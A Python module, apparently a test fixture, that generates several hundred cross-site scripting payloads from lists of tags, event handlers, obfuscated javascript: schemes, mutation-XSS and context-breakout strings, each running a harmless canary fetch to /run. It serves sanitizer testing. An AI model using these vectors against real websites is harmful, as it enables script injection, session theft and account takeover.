"""Several hundred ways to get a script into a page, made by putting a few ideas together; CODE is what they run.

CODE names no address as it stands, so that a page which only shows it asks for nothing: it has to run to be heard of.
"""

# ruff: noqa: E501 (lists are read more easily when a line holds many)

from __future__ import annotations

from itertools import product

CODE = "fetch(atob(`L3J1bg==`))"
"""Asks for `/run`."""
HEARD_OF = "/run"

HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbegin", "onpointerenter")
TAGS = ("img src=x", "svg", "body", "iframe", "video src=x", "details open", "input autofocus", "a href=# autofocus")
TAGS += ("object data=x", "math", "marquee", "select autofocus", "style", "link rel=stylesheet href=x", "audio src=x")
SPACES = (" ", "/", "\n", "\t", "\f", "\x0b", "/ /", '" ', "' ")
SCHEMES = (
    "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "&#106;avascript:", "&#x6a;avascript:",
    "javascript&colon;", "\x01javascript:", "javascript\x00:", "vbscript:", "data:text/html,<script>", "view-source:javascript:",
    "feed:javascript:", "blob:", "filesystem:", "//javascript:", "javascript://x/%0a", "\u00a0javascript:", "jav&Tab;ascript:",
)  # fmt: skip
PLACES = (
    "<a href='{}' autofocus>x</a>", "<iframe src='{}'></iframe>", "<form action='{}'><button autofocus>x</button></form>",
    "<button formaction='{}'>x</button>", "<object data='{}'></object>", "<embed src='{}'>", "<base href='{}'>",
    "<meta http-equiv=refresh content='0;url={}'>", "<svg><a xlink:href='{}'><text>x</text></a></svg>", "<img src='{}'>",
    "<math href='{}'>x</math>", "<link rel=import href='{}'>", "<video poster='{}'>", "<area href='{}'>", "{}",
)  # fmt: skip
SCRIPTS = (
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script/x>{}</script>", "<script\n>{}</script\n>", "<scr<script>ipt>{}</script>",
    "<<script>{}//<</script>", "<svg><script>{}</script></svg>", "<math><script>{}</script></math>", "<script src=data:,{}></script>",
    "<template><script>{}</script></template>", "<noscript><p title='</noscript><script>{}</script>'>", "<iframe srcdoc='<script>{}</script>'>",
    "<svg><style><img src='</style><script>{}</script>'>", "<math><mtext><table><mglyph><style><!--</style><img src=x onerror={}>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>", "<textarea></textarea><script>{}</script>",
    "<title></title><script>{}</script>", "<xmp><p title='</xmp><script>{}</script>'>", "<plaintext><script>{}</script>",
    "<table><td background='javascript:{}'>", "<div style='background:url(javascript:{})'>", "<x style='animation:a' onanimationstart={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set attributeName=onload to={}>", "<isindex type=image src=1 onerror={}>",
    "<frameset onload={}>", "<portal src='javascript:{}'>", "<img srcset=',,x' onerror={}>", "<picture><source srcset=x onerror={}><img onerror={}>",
    "<bgsound src='javascript:{}'>", "<layer src='javascript:{}'>", "<style>@import 'javascript:{}';</style>", "<xss contenteditable onblur={} autofocus>",
    "<input type=image src=x onerror={}>", "<keygen autofocus onfocus={}>", "<dialog open oncancel={}>", "<slot onslotchange={}>",
)  # fmt: skip
WAYS_OUT = (
    '"><script>{}</script>', "'><script>{}</script>", "</title><script>{}</script>", "</script><script>{}</script>",
    "]]><script>{}</script>", "--><script>{}</script>", "</style><script>{}</script>", "</textarea><script>{}</script>",
    '" onerror="{}', "' autofocus onfocus='{}", '" style="animation:a" onanimationstart="{}', "`><img src=x onerror={}>",
    "{{{{{}}}}}", "${{{}}}", "<%={}%>", "{{% raw %}}<script>{}</script>", "&lt;script&gt;{}&lt;/script&gt;", "&amp;lt;script&amp;gt;{}",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "\\x3cscript\\x3e{}", "%3Cscript%3E{}%3C/script%3E", "\u2028{}\u2029", "';{};//",
    '";{};//', "\\';{};//", "</a><script>{}</script>", "</p></article></main><script>{}</script>", "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\ufeff<script>{}</script>", "<\x00script>{}</script>", "\uff1cscript\uff1e{}\uff1c/script\uff1e", "&#60;script&#62;{}&#60;/script&#62;",
    "&#x3c;script&#x3e;{}&#x3c;/script&#x3e;", "<!--><script>{}</script>-->", "<![CDATA[<script>{}</script>]]>", "<?xml version='1'?><script>{}</script>",
)  # fmt: skip


def make_snippets() -> list[str]:
    """All of them, in one order."""
    handled = (f"<{tag} {handler}={CODE}>" for tag, handler in product(TAGS, HANDLERS))
    spaced = (f"<img{space}src=x{space}onerror={CODE}>" for space in SPACES)
    linked = (place.replace("{}", scheme + CODE) for place, scheme in product(PLACES, SCHEMES))
    written = (text.replace("{}", CODE) for text in (*SCRIPTS, *WAYS_OUT))
    return list(dict.fromkeys((*handled, *spaced, *linked, *written)))
